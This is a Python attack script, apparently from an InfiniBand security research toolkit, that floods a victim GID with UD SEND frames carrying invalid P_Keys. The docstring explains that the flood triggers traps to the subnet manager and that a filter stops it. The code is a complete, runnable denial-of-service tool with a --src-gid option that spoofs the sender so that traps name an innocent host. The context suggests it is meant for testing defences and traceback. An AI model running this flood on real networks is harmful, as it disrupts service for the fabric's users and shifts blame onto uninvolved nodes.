"""Invalid-P_Key DoS flood (seed 000 type IV): UD SENDs with P_Keys the target's table does not hold.

Each frame makes the target drop it, count it and (once per window) send trap 257 to the SM; the SM's
SIF filter at the attacker's switch port stops the flood. ``--src-gid`` spoofs the source (the trap then
names an innocent GID, and only the marking field tells the truth); ``--mf`` pre-sets the destination's
marking-field bits, standing in for what the switches would write.
"""

from __future__ import annotations

import os

from ibsec import addressing, transport
from ibsec.builder import Builder, gid_bytes

from .common import RawSocket, blast, checked, gid_text, int0, parser, report, run

DISTINCT_FRAMES = 256


def main(argv: list[str] | None = None) -> int:
    p = parser(__doc__.splitlines()[0])
    p.add_argument("--dst-gid", required=True, help="the victim's GID")
    p.add_argument("--src-gid", help="spoofed source GID (default: the attacker's real GID)")
    p.add_argument("--pkey", type=int0, action="append", help="bad P_Key(s) to use (default: random ones)")
    p.add_argument("--dqpn", type=int0, default=0x100, help="destination QP")
    p.add_argument("--mf", type=int0, default=0, help="marking-field bits to put in the destination GID")
    args = checked(p.parse_args(argv))
    sock = RawSocket(args.iface)
    src_gid = gid_text(args.src_gid) if args.src_gid else sock.gid
    builder = Builder(sock.mac, gid_bytes(src_gid))
    dst = addressing.mf_set(gid_text(args.dst_gid), args.mf)
    pkeys = args.pkey or [int.from_bytes(os.urandom(2), "big") | 0x8000 for _ in range(16)]
    none = transport.Sender(transport.Mode.NONE)
    frames = [
        transport.seal(
            builder.plain(
                dst,
                "UD_SEND_ONLY",
                pkeys[i % len(pkeys)],
                args.dqpn,
                i,
                b"flood",
                src_qp=args.dqpn,
                deth=(0, 0x1234),
            ),
            None,
            none,
        )
        for i in range(min(DISTINCT_FRAMES, args.count))
    ]
    summary = blast(sock, lambda i: frames[i % len(frames)], args)
    report(
        {
            "attack": "pkey_flood",
            "dst_gid": gid_text(args.dst_gid),
            "src_gid": src_gid,
            "pkeys": [f"{k:#06x}" for k in pkeys],
            **summary,
        }
    )
    sock.close()
    return 0


if __name__ == "__main__":
    run(main)
